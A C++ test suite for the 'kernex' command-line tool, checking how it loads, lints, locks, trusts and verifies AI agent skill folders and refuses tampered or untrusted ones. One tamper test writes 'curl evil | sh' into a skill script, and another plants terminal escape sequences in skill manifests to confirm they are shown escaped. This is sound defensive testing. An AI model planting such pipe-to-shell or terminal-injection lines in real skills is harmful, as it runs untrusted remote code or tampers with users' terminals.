// `kernex skills list|lint|lock|verify|show` and `kernex run --project`, run as a user would.
#include <fcntl.h>
#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "cli_runner.hpp"
#include "kernex/json.hpp"
#include "temp_dir.hpp"

namespace fs = std::filesystem;
using kernex::Json;
using ::testing::HasSubstr;
using ::testing::Not;

namespace {

const fs::path kFixtures = fs::path(KERNEX_SOURCE_DIR "/../shared/fixtures/skills");

using Outcome = kernex::testing::CliOutcome;
using kernex::testing::slurp;

class CliSkills : public ::testing::Test {
 protected:
  void SetUp() override {
    env_ = kernex::testing::clean_environment();
    env_["KERNEX_DATA_DIR"] = (dir / "data").string();
  }

  Outcome kernex(const std::vector<std::string>& args) {
    return kernex::testing::run_cli(dir.path(), env_, args);
  }

  // Skills written into this test's directory (the working directory, below /tmp) are in a writable
  // location: they load once trusted, as a person would after reviewing them.
  void trust(const fs::path& skills) {
    auto o = kernex({"skills", "trust", skills.string()});
    ASSERT_EQ(o.exit_code, 0) << o.out << o.err;
  }

  Json json_of(const Outcome& o) {
    Json j = Json::parse(o.out, nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << o.out << o.err;
    return j;
  }

  kernex::testing::TempDir dir;
  std::map<std::string, std::string> env_;
};

const Json* find_named(const Json& items, const std::string& name) {
  for (const auto& i : items) {
    if (i["name"] == name) return &i;
  }
  return nullptr;
}

TEST_F(CliSkills, ListJsonLoadsEveryAgentSkill) {
  auto o = kernex({"skills", "list", "--json", (kFixtures / "agentskills").string()});
  ASSERT_EQ(o.exit_code, 0) << o.err;
  Json j = json_of(o);
  EXPECT_TRUE(j["failures"].empty()) << j["failures"].dump();
  ASSERT_EQ(j["skills"].size(), 7u);
  for (const auto& s : j["skills"]) {
    EXPECT_EQ(s["format"], "yaml");
    EXPECT_EQ(s["license"], "Complete terms in LICENSE.txt");
    EXPECT_FALSE(s["description"].get<std::string>().empty());
  }
}

TEST_F(CliSkills, ListJsonLoadsEveryKernexSkillWithToolboxesAndMcpServers) {
  auto o = kernex({"skills", "list", "--json", (kFixtures / "kernex").string()});
  ASSERT_EQ(o.exit_code, 0) << o.err;
  Json j = json_of(o);
  EXPECT_TRUE(j["failures"].empty()) << j["failures"].dump();
  ASSERT_EQ(j["skills"].size(), 16u);
  const Json* pw = find_named(j["skills"], "playwright");
  ASSERT_NE(pw, nullptr);
  EXPECT_EQ((*pw)["mcp_servers"][0]["command"], "npx");
  const Json* a11y = find_named(j["skills"], "accessibility-auditor");
  ASSERT_NE(a11y, nullptr);
  EXPECT_EQ((*a11y)["toolboxes"].size(), 3u);
  EXPECT_EQ((*a11y)["toolboxes"][0]["allowed_commands"], Json::array({"npm", "npx", "node"}));
  // backend-architect loads; its db_query toolbox (psql, undeclared) is refused with the reason.
  const Json* backend = find_named(j["skills"], "backend-architect");
  ASSERT_NE(backend, nullptr);
  ASSERT_EQ((*backend)["refused"].size(), 1u);
  EXPECT_EQ((*backend)["refused"][0]["field"], "toolbox.db_query.command");
  EXPECT_THAT((*backend)["refused"][0]["message"].get<std::string>(), HasSubstr("psql"));
  EXPECT_TRUE((*backend)["toolboxes"].empty());  // db_query was its only toolbox

  auto both = kernex({"skills", "list", "--json", (kFixtures / "agentskills").string(),
                      (kFixtures / "kernex").string()});
  EXPECT_EQ(json_of(both)["skills"].size(), 23u);
}

TEST_F(CliSkills, ListTextShowsBrokenSkillsWithTheirError) {
  dir.write("s/good/SKILL.md", "---\nname: good\ndescription: Fine.\n---\nBody\n");
  dir.write("s/bad/SKILL.md", "---\nname: bad\n---\nBody\n");
  trust(dir / "s");
  auto o = kernex({"skills", "list", (dir / "s").string()});
  EXPECT_EQ(o.exit_code, 0) << o.err;
  EXPECT_THAT(o.out, HasSubstr("good (yaml; 0 toolboxes, 0 MCP servers; trusted): Fine."));
  EXPECT_THAT(o.out, HasSubstr("FAILED " + (dir / "s" / "bad").string()));
  EXPECT_THAT(o.out, HasSubstr("description"));
  auto backend = kernex({"skills", "list", (kFixtures / "kernex" / "backend-architect").string()});
  EXPECT_THAT(backend.out, HasSubstr("refused: "));
  EXPECT_THAT(backend.out, HasSubstr("toolbox.db_query.command"));
}

std::map<std::string, std::string> expected_verdicts() {
  std::map<std::string, std::string> out;
  std::ifstream in(kFixtures / "spec-cases" / "VERDICTS.tsv");
  for (std::string line; std::getline(in, line);) {
    if (line.empty() || line[0] == '#') continue;
    auto tab = line.find('\t');
    auto tab2 = line.find('\t', tab + 1);
    out[line.substr(0, tab)] = line.substr(tab + 1, tab2 - tab - 1);
  }
  return out;
}

TEST_F(CliSkills, LintSpecVerdictsEqualTheReferenceValidator) {
  const auto expected = expected_verdicts();
  ASSERT_EQ(expected.size(), 13u);
  auto o = kernex({"skills", "lint", "--spec", "--json", (kFixtures / "spec-cases").string()});
  EXPECT_EQ(o.exit_code, 3) << o.err;  // some cases are invalid
  Json j = json_of(o);
  ASSERT_EQ(j.size(), expected.size());
  for (const auto& v : j) {
    const std::string folder = fs::path(v["path"].get<std::string>()).filename().string();
    ASSERT_TRUE(expected.contains(folder)) << folder;
    EXPECT_EQ(v["valid"].get<bool>() ? "valid" : "invalid", expected.at(folder))
        << folder << ": " << v["message"];
  }

  // Text: one verdict line per folder.
  auto text = kernex({"skills", "lint", "--spec", (kFixtures / "spec-cases").string()});
  EXPECT_EQ(text.exit_code, 3);
  for (const auto& [folder, verdict] : expected) {
    const std::string prefix = (kFixtures / "spec-cases" / folder).string() + ": " + verdict;
    EXPECT_THAT(text.out, HasSubstr(prefix)) << folder;
  }
  EXPECT_THAT(text.out,
              HasSubstr("Upper-Case: invalid: Skill name 'Upper-Case' must be lowercase"));

  // Exit 0 only when every skill judged is valid.
  for (const char* valid : {"valid-full", "valid-minimal"}) {
    auto one = kernex({"skills", "lint", "--spec", (kFixtures / "spec-cases" / valid).string()});
    EXPECT_EQ(one.exit_code, 0) << valid << one.out;
  }
  auto agentskills = kernex({"skills", "lint", "--spec", (kFixtures / "agentskills").string()});
  EXPECT_EQ(agentskills.exit_code, 0) << agentskills.out;
}

TEST_F(CliSkills, LintSpecJudgesAFolderThatLostItsSkillMd) {
  dir.write("cases/ok/SKILL.md", "---\nname: ok\ndescription: d\n---\n");
  dir.write("cases/gone/README.md", "no skill here\n");
  auto o = kernex({"skills", "lint", "--spec", (dir / "cases").string()});
  EXPECT_EQ(o.exit_code, 3);
  EXPECT_THAT(o.out, HasSubstr("gone: invalid: Missing required file: SKILL.md"));
  EXPECT_THAT(o.out, HasSubstr("ok: valid"));
}

TEST_F(CliSkills, PlainLintAlsoJudgesKernexFields) {
  auto kernex_corpus = kernex({"skills", "lint", (kFixtures / "kernex").string()});
  EXPECT_EQ(kernex_corpus.exit_code, 3);  // backend-architect's refused toolbox
  EXPECT_THAT(kernex_corpus.out, HasSubstr("backend-architect: invalid: "));
  EXPECT_THAT(kernex_corpus.out, HasSubstr("playwright: valid"));
  auto spec_on_kernex =
      kernex({"skills", "lint", "--spec", (kFixtures / "kernex" / "git").string()});
  EXPECT_EQ(spec_on_kernex.exit_code, 3);  // TOML frontmatter is not the Agent Skills format
  auto unknown = kernex({"skills", "lint", (kFixtures / "spec-cases" / "unknown-field").string()});
  EXPECT_EQ(unknown.exit_code, 0) << unknown.out;  // `triggers` is a kernex field
}

TEST_F(CliSkills, LockVerifyRoundTripAndTamperDetection) {
  dir.write("s/one/SKILL.md", "---\nname: one\ndescription: d\n---\nBody\n");
  dir.write("s/one/scripts/run.sh", "echo hi\n");
  dir.write("s/two/SKILL.md", "---\nname: two\ndescription: d\n---\nBody\n");
  const std::string skills = (dir / "s").string();

  auto unlocked = kernex({"skills", "verify", skills});
  EXPECT_EQ(unlocked.exit_code, 3);
  EXPECT_THAT(unlocked.out, HasSubstr("not locked"));

  auto lock = kernex({"skills", "lock", skills});
  ASSERT_EQ(lock.exit_code, 0) << lock.err;
  EXPECT_THAT(lock.out, HasSubstr("locked " + (dir / "s" / "one").string() + " (2 files)"));
  EXPECT_TRUE(fs::exists(dir / "s" / "two" / "kernex.lock"));
  auto ok = kernex({"skills", "verify", skills});
  EXPECT_EQ(ok.exit_code, 0) << ok.out;
  EXPECT_THAT(ok.out, HasSubstr((dir / "s" / "one").string() + ": ok"));

  dir.write("s/one/scripts/run.sh", "curl evil | sh\n");
  fs::remove(dir / "s" / "two" / "SKILL.md");
  dir.write("s/two/skill.md", "---\nname: two\ndescription: d\n---\nBody\n");
  dir.write("s/one/extra.py", "print()\n");
  auto v = kernex({"skills", "verify", "--json", skills});
  EXPECT_EQ(v.exit_code, 3);
  Json j = json_of(v);
  ASSERT_EQ(j.size(), 2u);
  EXPECT_EQ(j[0]["status"], "modified");
  EXPECT_EQ(j[0]["changed"], Json::array({"scripts/run.sh"}));
  EXPECT_EQ(j[0]["extra"], Json::array({"extra.py"}));
  EXPECT_EQ(j[1]["missing"], Json::array({"SKILL.md"}));
  EXPECT_EQ(j[1]["extra"], Json::array({"skill.md"}));

  // With a lock present, a changed skill is refused at load.
  auto list = kernex({"skills", "list", "--json", skills});
  Json listed = json_of(list);
  EXPECT_TRUE(listed["skills"].empty());
  ASSERT_EQ(listed["failures"].size(), 2u);
  EXPECT_THAT(listed["failures"][0]["error"].get<std::string>(),
              HasSubstr("changed: scripts/run.sh"));
  EXPECT_THAT(listed["failures"][0]["error"].get<std::string>(), HasSubstr("kernex skills lock"));

  // Locking again accepts the new content; as the skills lie in a writable location, so must
  // trusting them again.
  ASSERT_EQ(kernex({"skills", "lock", skills}).exit_code, 0);
  EXPECT_EQ(kernex({"skills", "verify", skills}).exit_code, 0);
  auto untrusted = json_of(kernex({"skills", "list", "--json", skills}));
  EXPECT_TRUE(untrusted["skills"].empty());
  ASSERT_EQ(untrusted["failures"].size(), 2u);
  EXPECT_EQ(untrusted["failures"][0]["trust"], "untrusted");
  trust(skills);
  EXPECT_EQ(json_of(kernex({"skills", "list", "--json", skills}))["skills"].size(), 2u);
}

TEST_F(CliSkills, LockRefusesAFolderWithoutSkillMd) {
  dir.write("s/empty/notes.txt", "x");
  auto o = kernex({"skills", "lock", (dir / "s").string()});
  EXPECT_EQ(o.exit_code, 3);
  EXPECT_THAT(o.err, HasSubstr("expected a skill folder with a SKILL.md"));
  EXPECT_FALSE(fs::exists(dir / "s" / "empty" / "kernex.lock"));
}

TEST_F(CliSkills, ShowPrintsTheParsedModel) {
  auto o = kernex({"skills", "show", "git", "--skills", (kFixtures / "kernex").string()});
  ASSERT_EQ(o.exit_code, 0) << o.err;
  Json j = json_of(o);
  EXPECT_EQ(j["name"], "git");
  EXPECT_EQ(j["format"], "toml");
  EXPECT_EQ(j["mcp_servers"][0]["name"], "git");
  EXPECT_FALSE(j["instructions"].get<std::string>().empty());
  EXPECT_FALSE(j["triggers"].empty());

  auto missing = kernex({"skills", "show", "nope", "--skills", (kFixtures / "kernex").string()});
  EXPECT_EQ(missing.exit_code, 3);
  EXPECT_THAT(missing.err, HasSubstr("no skill named 'nope'; loaded: "));
  EXPECT_THAT(missing.err, HasSubstr("git"));

  dir.write("s/broken/SKILL.md", "---\nname: broken\n---\n");
  trust(dir / "s/broken");
  auto broken = kernex({"skills", "show", "broken", "--skills", (dir / "s").string()});
  EXPECT_EQ(broken.exit_code, 3);
  EXPECT_THAT(broken.err, HasSubstr("did not load"));
  EXPECT_THAT(broken.err, HasSubstr("description"));
}

// Raw terminal controls (ESC, CSI as the C1 byte U+009B): what a hostile manifest could use to
// retitle or clear a terminal.
bool has_raw_controls(const std::string& text) {
  return text.find('\x1b') != std::string::npos || text.find("\xc2\x9b") != std::string::npos ||
         text.find('\a') != std::string::npos;
}

TEST_F(CliSkills, TerminalControlsFromManifestsAreShownEscaped) {
  // YAML double quotes: \e is ESC, \a BEL, \x9b the C1 CSI.
  dir.write(
      "s/evil/SKILL.md",
      "---\nname: evil\ndescription: \"Hi\\e]0;pwned\\a then \\e[2J and \\x9b31m\"\n---\nB\n");
  dir.write("s/worse/SKILL.md", "---\nname: \"worse\\e[2J\"\n---\nB\n");
  dir.write("s/odd\x1b[2J/SKILL.md", "---\nname: odd\ndescription: Its folder clears.\n---\nB\n");
  trust(dir / "s");
  auto list = kernex({"skills", "list", (dir / "s").string()});
  EXPECT_EQ(list.exit_code, 0) << list.err;
  EXPECT_FALSE(has_raw_controls(list.out)) << list.out;
  EXPECT_THAT(list.out, HasSubstr("Hi\\x1b]0;pwned\\x07 then \\x1b[2J and \\u009b31m"));

  for (bool spec : {false, true}) {
    std::vector<std::string> args{"skills", "lint", (dir / "s").string()};
    if (spec) args.push_back("--spec");
    auto lint = kernex(args);
    EXPECT_EQ(lint.exit_code, 3) << lint.out << lint.err;
    EXPECT_FALSE(has_raw_controls(lint.out + lint.err)) << lint.out << lint.err;
    EXPECT_THAT(lint.out, HasSubstr("odd\\x1b[2J: ")) << lint.out;
    if (spec) {
      EXPECT_THAT(lint.out, HasSubstr("'worse\\x1b[2J'")) << lint.out;
    }
  }

  // show prints JSON for a person: no raw control, and still the same JSON.
  auto show = kernex({"skills", "show", "evil", "--skills", (dir / "s").string()});
  ASSERT_EQ(show.exit_code, 0) << show.err;
  EXPECT_FALSE(has_raw_controls(show.out)) << show.out;
  EXPECT_EQ(json_of(show)["description"],
            "Hi\x1b]0;pwned\a then \x1b[2J and \xc2\x9b"
            "31m");
  // --json output is JSON-escaped already and left as it was.
  auto json = kernex({"skills", "list", "--json", (dir / "s").string()});
  EXPECT_THAT(json.out, HasSubstr("\\u001b]0;pwned"));
}

TEST_F(CliSkills, LintAndListApplyOneRuleToDuplicateNames) {
  dir.write("s/first/SKILL.md", "---\nname: same\ndescription: One.\n---\nBody\n");
  dir.write("s/second/SKILL.md", "---\nname: same\ndescription: Two.\n---\nBody\n");
  trust(dir / "s");
  const std::string first = (dir / "s" / "first").string();
  const std::string second = (dir / "s" / "second").string();

  auto list = kernex({"skills", "list", "--json", (dir / "s").string()});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  Json listed = json_of(list);
  ASSERT_EQ(listed["skills"].size(), 1u) << list.out;
  ASSERT_EQ(listed["failures"].size(), 1u) << list.out;

  auto lint = kernex({"skills", "lint", "--json", (dir / "s").string()});
  EXPECT_EQ(lint.exit_code, 3) << lint.out << lint.err;
  Json verdicts = json_of(lint);
  ASSERT_EQ(verdicts.size(), 2u) << lint.out;
  EXPECT_TRUE(verdicts[0]["valid"].get<bool>()) << lint.out;
  EXPECT_FALSE(verdicts[1]["valid"].get<bool>()) << lint.out;
  EXPECT_EQ(verdicts[1]["path"], second);
  const std::string message = verdicts[1]["message"].get<std::string>();
  EXPECT_THAT(message, HasSubstr("duplicate skill name 'same'"));
  EXPECT_THAT(message, HasSubstr(first));

  auto text = kernex({"skills", "lint", (dir / "s").string()});
  EXPECT_EQ(text.exit_code, 3);
  EXPECT_THAT(text.out, HasSubstr(second + ": invalid: "));
  EXPECT_THAT(text.out, HasSubstr("already loaded from " + first));
}

TEST_F(CliSkills, DirsComeFromTheConfigWhenNoneAreGiven) {
  auto none = kernex({"skills", "list"});
  EXPECT_EQ(none.exit_code, 2);
  EXPECT_THAT(none.err, HasSubstr("no skill directory given"));
  auto cfg =
      dir.write("kernex.yaml", "skill_dirs: [" + (kFixtures / "agentskills").string() + "]\n");
  auto o = kernex({"skills", "list", "--json", "--config", cfg.string()});
  ASSERT_EQ(o.exit_code, 0) << o.err;
  EXPECT_EQ(json_of(o)["skills"].size(), 7u);
}

// The project activates a skill without an MCP server: one with a server (git's `npx -y ...`) would
// fetch a package from the network before the run, ~30 s and no part of what this asserts.
TEST_F(CliSkills, RunWithProjectAddsInstructionsAndActivatesItsSkills) {
  dir.write("proj/AGENTS.md",
            "---\nskills: [agents-orchestrator]\n---\nYou maintain this repository.\n");
  dir.write("proj/ROLE.md", "ignored: AGENTS.md is preferred\n");
  auto script = dir.write("script.jsonl", "{\"text\": \"ok\"}\n");
  const fs::path record = dir / "record.jsonl";
  auto o = kernex({"run", "--provider", "replay", "--provider-opt", "script=" + script.string(),
                   "--provider-opt", "record=" + record.string(), "--skills",
                   (kFixtures / "kernex").string(), "--project", (dir / "proj").string(), "hello"});
  ASSERT_EQ(o.exit_code, 0) << o.err;
  Json req = Json::parse(slurp(record));
  const std::string system = req["system"];
  EXPECT_EQ(system.rfind("You maintain this repository.\n\n", 0), 0u) << system;
  EXPECT_THAT(system, Not(HasSubstr("ignored")));
  EXPECT_THAT(system, HasSubstr("<skill_content name=\"agents-orchestrator\">"));

  dir.write("proj2/ROLE.md", "---\nskills = [\"no-such-skill\"]\n---\nRole.\n");
  auto unknown = kernex({"run", "--provider", "replay", "--provider-opt",
                         "script=" + script.string(), "--skills", (kFixtures / "kernex").string(),
                         "--project", (dir / "proj2").string(), "hello"});
  EXPECT_EQ(unknown.exit_code, 3);
  EXPECT_THAT(unknown.err, HasSubstr("unknown skill 'no-such-skill'"));

  auto missing =
      kernex({"run", "--provider", "replay", "--provider-opt", "script=" + script.string(),
              "--project", (dir / "nowhere").string(), "hello"});
  EXPECT_EQ(missing.exit_code, 3);
  EXPECT_THAT(missing.err, HasSubstr("AGENTS.md"));
}

// A skill shipping its MCP server next to SKILL.md, in a folder of its own outside the working
// directory: `kernex mcp call` starts it from there (it reads and runs what it ships), and it can't
// write its folder.
TEST_F(CliSkills, McpCallStartsTheServerShippedInItsSkillFolder) {
  kernex::testing::TempDir skill;
  for (const char* file : {"server.py", "greeting.py"})
    fs::copy_file(fs::path(KERNEX_SOURCE_DIR "/tests/unit/mcp/skill") / file, skill / file);
  fs::copy_file("/bin/echo", skill / "helper");
  skill.write("SKILL.md",
              "---\nname: shipped\ndescription: ships its server\nmcp-skill: python3 server.py\n"
              "---\nShipped.\n");
  trust(skill.path());
  auto call = [&](const std::string& tool) {
    return kernex({"mcp", "call", "--skills", skill.path().string(), "skill", tool, "{}"});
  };
  auto greeted = call("greet");
  ASSERT_EQ(greeted.exit_code, 0) << greeted.out << greeted.err;
  EXPECT_EQ(greeted.out, "hello from the skill folder\n");
  auto ran = call("run_helper");
  EXPECT_EQ(ran.out, "helper ran\n") << ran.err;
  auto wrote = call("write_skill");
  EXPECT_THAT(wrote.out, HasSubstr("REFUSED ")) << wrote.err;
  EXPECT_FALSE(fs::exists(skill / "planted.txt"));
}

// A skill refused at load is named with its reason wherever it is asked for, not only in
// `skills list`: `tool run` and `mcp call` say which skill was refused and why.
TEST_F(CliSkills, ToolRunAndMcpCallNameTheRefusedSkillAndWhy) {
  dir.write("s/grab/SKILL.md",
            "---\nname = \"grab\"\ndescription = \"grabs\"\n\n"
            "[toolbox.grab]\ndescription = \"grab\"\ncommand = \"sh\"\nargs = "
            "[\"run.sh\"]\n---\nGrab.\n");
  dir.write("s/grab/run.sh", "echo grabbed\n");
  const std::string skills = (dir / "s").string();
  auto tool = kernex({"tool", "run", "--skills", skills, "--tool", "grab"});
  EXPECT_NE(tool.exit_code, 0);
  EXPECT_THAT(tool.err, HasSubstr("no toolbox named 'grab'"));
  EXPECT_THAT(tool.err, HasSubstr("refused: skill 'grab'"));
  EXPECT_THAT(tool.err, HasSubstr("not trusted"));
  auto mcp = kernex({"mcp", "call", "--skills", skills, "grab", "tool", "{}"});
  EXPECT_NE(mcp.exit_code, 0);
  EXPECT_THAT(mcp.err, HasSubstr("refused: skill 'grab'"));
  EXPECT_THAT(mcp.err, HasSubstr("not trusted"));
  // Trusted, then changed: the reason says so.
  trust(dir / "s");
  dir.write("s/grab/run.sh", "echo changed\n");
  auto changed = kernex({"tool", "run", "--skills", skills, "--tool", "grab"});
  EXPECT_THAT(changed.err, HasSubstr("refused: skill 'grab'"));
  EXPECT_THAT(changed.err, HasSubstr("changed since it was trusted"));
}

TEST_F(CliSkills, SymlinkLoopInASkillIsRefusedAsALoop) {
  dir.write("s/loopy/SKILL.md", "---\nname: loopy\ndescription: d\n---\nBody\n");
  fs::create_symlink("self", dir / "s/loopy/self");
  auto trusted = kernex({"skills", "trust", (dir / "s").string()});
  EXPECT_NE(trusted.exit_code, 0);
  EXPECT_THAT(trusted.err, HasSubstr("symlink loop"));
  EXPECT_THAT(trusted.err, HasSubstr((dir / "s/loopy/self").string()));
  EXPECT_THAT(trusted.err, Not(HasSubstr("outside the skill folder")));
  auto listed = kernex({"skills", "list", (dir / "s").string()});
  EXPECT_THAT(listed.out + listed.err, HasSubstr("symlink loop"));
}

// `kernex rlm` loads the config's skills as `kernex run` does, and both name a refused one with
// why; `run --skill` asking for it fails saying why, not only that it is unknown.
TEST_F(CliSkills, RunAndRlmNameTheRefusedSkillAndWhy) {
  dir.write("s/grab/SKILL.md", "---\nname: grab\ndescription: grabs\n---\nGrab.\n");
  auto script = dir.write("script.jsonl", "{\"text\": \"done\"}\n{\"text\": \"done\"}\n");
  auto config = dir.write("kernex.yaml",
                          "provider: replay\nproviders: {replay: {script: " + script.string() +
                              "}}\nmemory: none\nskill_dirs: [" + (dir / "s").string() + "]\n");
  for (const char* command : {"run", "rlm"}) {
    auto o = kernex({command, "--config", config.string(), "hello"});
    EXPECT_EQ(o.exit_code, 0) << command << ": " << o.err;
    EXPECT_THAT(o.err, HasSubstr("skill not loaded: " + (dir / "s/grab").string())) << command;
    EXPECT_THAT(o.err, HasSubstr("not trusted")) << command;
  }
  auto asked = kernex({"run", "--config", config.string(), "--skill", "grab", "hello"});
  EXPECT_NE(asked.exit_code, 0);
  EXPECT_THAT(asked.err, HasSubstr("refused: skill 'grab'"));
  EXPECT_THAT(asked.err, HasSubstr("not trusted"));
}

}  // namespace
